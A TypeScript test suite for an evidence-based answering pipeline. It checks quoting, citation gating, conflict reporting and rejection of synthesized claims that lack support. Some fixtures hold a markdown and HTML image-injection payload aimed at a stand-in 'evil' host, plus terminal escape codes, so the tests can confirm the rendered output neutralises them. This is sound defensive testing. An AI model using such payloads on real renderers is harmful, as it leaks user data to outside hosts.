import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FinalAnswer, SynthesisAnswer } from '../../src/contracts/index.ts';
import {
  answerMarkdown,
  checkSynthesis,
  composeAnswer,
  extractiveAnswer,
  gateAnswer,
  groupEvidence,
  mergeInput,
  offeredNumbers,
  reduceEvidence,
  renderAnswer,
  SYNTHESIS_INSTRUCTIONS,
  synthesisInput,
} from '../../src/evidence/index.ts';
import { CorpusOnDisk } from './corpus-on-disk.ts';
import { liveNodes } from './live-markdown.ts';

const QUESTION = 'How long is the time-out?';

/** Two documents that contradict each other, one of them with words that try to be marks, code and headings. */
async function reduced() {
  const corpus = new CorpusOnDisk();
  const a = corpus.add('docs/a.md', 'Intro.\nThe default request time-out of the server is 30 seconds.\n');
  const b = corpus.add(
    'docs/[1].md',
    'The default request time-out of the server is 1,500 seconds.\r\nThere is no ``` limit [9], see citations.\n\u001b[2J> ok\n',
  );
  const unread = corpus.add('docs/c.md', 'Never opened.\n');
  const claim = (quote: string, loc: string) => ({ quote, loc, note: 'About the time-out.' });
  const { evidence, coverage } = await reduceEvidence({
    jobs: [
      corpus.job(
        a,
        {
          evidence: [
            claim('The default request time-out of the server is 30 seconds.', 'docs/a.md:2-2'),
            claim('Invented.', 'docs/a.md:1-1'),
          ],
        },
        QUESTION,
      ),
      corpus.job(
        b,
        {
          confidence: 0.6,
          evidence: [claim(readFileSync(join(corpus.dir, 'docs/[1].md'), 'utf8').trim(), 'docs/[1].md:1-3')],
          gaps: ['The unit is unclear.'],
        },
        QUESTION,
      ),
      corpus.unanswered(unread, 'never_sent'),
    ],
    chunks: corpus.chunks,
    sources: corpus.sources,
    reader: corpus.reader,
    runDir: corpus.dir,
  });
  return {
    corpus,
    evidence,
    coverage,
    gate: (answer: FinalAnswer) => gateAnswer(answer, { evidence, coverage, reader: corpus.reader }),
  };
}

describe('the extractive answer', () => {
  it('quotes word for word under each document, says what it is, and passes the gate as it is', async () => {
    const { evidence, coverage, gate } = await reduced();
    const answer = extractiveAnswer(QUESTION, evidence, coverage);
    expect(gate(answer)).toMatchObject({ ok: true, answer, moved: [], uncited: [] });
    expect(answer.content).toContain('Extractive answer');
    expect(answer.content).toContain(
      '## docs/a.md\n\n[1] line 2:\n```text\nThe default request time-out of the server is 30 seconds.\n```',
    );
    expect(answer.content).toContain('[1] and [2] may contradict each other');
    expect(answer.citations.map((citation) => citation.sources)).toEqual([
      ['docs/a.md:2-2'],
      ['docs/[1].md:1-3'],
    ]);
    expect(answer.confidence).toBeLessThanOrEqual(0.7);
    expect(answer.gaps.join('\n')).toMatch(/Not everything was read: .*14 never sent/);
    expect(answer.gaps).toContain('The unit is unclear.');
    expect(JSON.stringify(answer)).not.toContain('Invented');
  });

  it('of nothing cites nothing, is sure of nothing, and states its coverage as a gap', async () => {
    const { evidence, coverage, gate } = await reduced();
    const empty = { ...evidence, items: [], conflicts: [] };
    const answer = extractiveAnswer(QUESTION, empty, coverage);
    expect(gate(answer)).toMatchObject({ ok: true, answer, moved: [], uncited: [] });
    expect(answer).toMatchObject({ confidence: 0, citations: [] });
    expect(answer.gaps[0]).toMatch(/^Unanswered after reading \d+(\.\d)? %: How long/);
  });

  it('stays within the size of an answer however much there is', async () => {
    const corpus = new CorpusOnDisk();
    const lines = Array.from(
      { length: 300 },
      (_, index) => `Line ${index} ${'says a lot '.repeat(20)}${index}.`,
    );
    const chunks = corpus.add('a.md', `${lines.join('\n\n')}\n`);
    const jobs = lines.map((line, index) =>
      corpus.job(chunks, {
        evidence: [{ quote: line, loc: `a.md:${index * 2 + 1}-${index * 2 + 1}`, note: 'n' }],
      }),
    );
    const { evidence, coverage } = await reduceEvidence({
      jobs,
      chunks: corpus.chunks,
      sources: corpus.sources,
      reader: corpus.reader,
      runDir: corpus.dir,
    });
    const answer = extractiveAnswer(QUESTION, evidence, coverage, evidence.items);
    expect(gateAnswer(answer, { evidence, coverage, reader: corpus.reader }).ok).toBe(true);
    expect(answer.content.length).toBeGreaterThan(10_000);
    expect(answer.gaps[0]).toContain('further quotes are in reduce/evidence.json');
    expect(renderAnswer(answer, evidence, coverage)).toMatch(/ in 1 document[;)]/);
  });
});

describe('the rendered answer', () => {
  it('lists each citation with path, lines and words, then coverage and gaps, with no control character', async () => {
    const { evidence, coverage } = await reduced();
    const text = renderAnswer(extractiveAnswer(QUESTION, evidence, coverage), evidence, coverage);
    expect(text).toContain(
      '[1] docs/a.md:2-2\n      “The default request time-out of the server is 30 seconds.”',
    );
    expect(text).toMatch(/Coverage\n {2}\d+(\.\d)? % of the bytes were read/);
    expect(text).toMatch(/Gaps\n {2}- Not everything was read/);
    expect(text).not.toMatch(/(?!\n)\p{Cc}/u);
  });

  it('as Markdown shows what a document, a path or a model smuggled in, and a client loads nothing of it', async () => {
    const attack = '![x](http://evil/?d=1) <img src=http://evil> [a][1]';
    const corpus = new CorpusOnDisk();
    const path = 'docs/![x](evil).md';
    corpus.add(path, `${attack} says 30 seconds for the default request time-out.\n\n[1]: http://evil\n`);
    corpus.add('docs/b.md', `${attack} says 45 seconds for the default request time-out.\n`);
    const jobs = corpus.chunks.map((chunk) =>
      corpus.job(
        [chunk],
        {
          evidence: [
            {
              quote: readFileSync(join(corpus.dir, chunk.source), 'utf8').trim().slice(0, 110),
              loc: 'x:1-1',
              note: attack,
            },
          ],
          gaps: [attack],
        },
        QUESTION,
      ),
    );
    const { evidence, coverage } = await reduceEvidence({
      jobs,
      chunks: corpus.chunks,
      sources: corpus.sources,
      reader: corpus.reader,
      runDir: corpus.dir,
    });
    expect(evidence).toMatchObject({ items: [{}, {}], conflicts: [{ kind: 'number' }] });
    const result = gateAnswer(extractiveAnswer(`${QUESTION} ${attack}`, evidence, coverage), {
      evidence,
      coverage,
      reader: corpus.reader,
    });
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    const markdown = answerMarkdown(result.answer, result.evidence, coverage);
    expect(markdown).toContain('## Gaps');
    expect(markdown).toContain('## Possible conflicts');
    expect(liveNodes(markdown)).toEqual([]);
  });
});

describe('synthesis', () => {
  const good: SynthesisAnswer = {
    claims: [
      { text: 'One document says 30 seconds [7].', evidence: [2] },
      { text: 'Another says 1500 seconds.', evidence: [1, 1] },
    ],
    conflicts: [{ text: '30 against 1,500 seconds', evidence: [1, 2] }],
    gaps: ['Which one holds is open.'],
    confidence: 0.95,
  };

  it('becomes an answer with a mark for every claim that passes the gate', async () => {
    const { evidence, coverage, gate } = await reduced();
    const checked = checkSynthesis(good, QUESTION, evidence.items);
    if (!checked.ok) throw new Error(checked.problems.join('\n'));
    const answer = composeAnswer({ question: QUESTION, answer: checked.answer, evidence, coverage });
    expect(gate(answer)).toMatchObject({ ok: true, answer, moved: [], uncited: [] });
    expect(answer.content).toBe(
      'One document says 30 seconds (7). [1]\n\nAnother says 1500 seconds. [2]\n\nPossible conflicts:\n- 30 against 1,500 seconds [3]',
    );
    expect(answer.citations.map((citation) => citation.sources)).toEqual([
      ['docs/a.md:2-2'],
      ['docs/[1].md:1-3'],
      ['docs/[1].md:1-3', 'docs/a.md:2-2'],
    ]);
    expect(answer.gaps[0]).toBe('Which one holds is open.');
    expect(answer.confidence).toBeCloseTo(0.64);
  });

  it.each<[string, unknown, string]>([
    [
      'numbers that do not exist',
      { ...good, claims: [{ text: 'x', evidence: [1, 3] }] },
      'claims[0] names evidence 3, which does not exist',
    ],
    ['in conflicts too', { ...good, conflicts: [{ text: 'x', evidence: [0, 9] }] }, 'conflicts[0]'],
    ['claims without evidence', { ...good, claims: [{ text: 'x', evidence: [] }] }, 'claims[0].evidence'],
    [
      'a figure its evidence does not have',
      { ...good, claims: [{ text: 'It is 45 seconds.', evidence: [2] }] },
      'claims[0] says the number 45, which its evidence (2) does not',
    ],
    ['nothing at all', { ...good, claims: [], gaps: [] }, 'both empty'],
    ['a field too few', { claims: [] }, 'conflicts'],
  ])('is refused for %s', async (_name, candidate, expected) => {
    const { evidence } = await reduced();
    const checked = checkSynthesis(candidate, QUESTION, evidence.items);
    if (checked.ok) throw new Error('accepted');
    expect(checked.problems.join('\n')).toContain(expected);
  });

  it('that claims nothing is an open question with its gaps', async () => {
    const { evidence, coverage, gate } = await reduced();
    const answer = composeAnswer({ question: QUESTION, answer: { ...good, claims: [] }, evidence, coverage });
    expect(gate(answer)).toMatchObject({ ok: true, answer, moved: [], uncited: [] });
    expect(answer).toMatchObject({ citations: [], confidence: 0 });
    expect(answer.gaps[0]).toBe('Which one holds is open.');
  });

  it('gets a short stable prefix, and the evidence numbered and last', async () => {
    const { evidence } = await reduced();
    expect(Buffer.byteLength(SYNTHESIS_INSTRUCTIONS)).toBeLessThanOrEqual(2048);
    const input = synthesisInput('Why\u0000 this?', groupEvidence(evidence.items, 10_000)[0] ?? [], []);
    expect(input).toMatch(
      /^Question: Why this\?\n\nEvidence:\n1\. \(docs\/\[1\]\.md:1-3\) "The default .*\n2\. \(docs\/a\.md:2-2\) "The default[^\n]*\n$/,
    );
  });

  it('splits evidence by tokens with numbers that stay, and merges partial answers by those numbers', async () => {
    const { evidence } = await reduced();
    const items = Array.from({ length: 50 }, () => evidence.items).flat();
    const groups = groupEvidence(items, 100, () => 30);
    expect(groups.flat().map((one) => one.number)).toEqual(items.map((_, index) => index + 1));
    expect(groups.every((group) => group.length === 3 || group === groups.at(-1))).toBe(true);
    expect(groupEvidence(items, 10, () => 30)).toHaveLength(items.length);
    expect(groupEvidence([], 10)).toEqual([]);
    const partial = [good, { ...good, claims: [{ text: 'A third.', evidence: [41] }], conflicts: [] }];
    expect([...offeredNumbers(partial)].sort((a, b) => a - b)).toEqual([1, 2, 41]);
    const merged = mergeInput(QUESTION, partial);
    expect(merged).toContain('- (evidence 41) "A third."');
    expect(
      checkSynthesis(
        { ...good, claims: [{ text: 'x', evidence: [3] }] },
        QUESTION,
        items,
        offeredNumbers(partial),
      ).ok,
    ).toBe(false);
  });
});
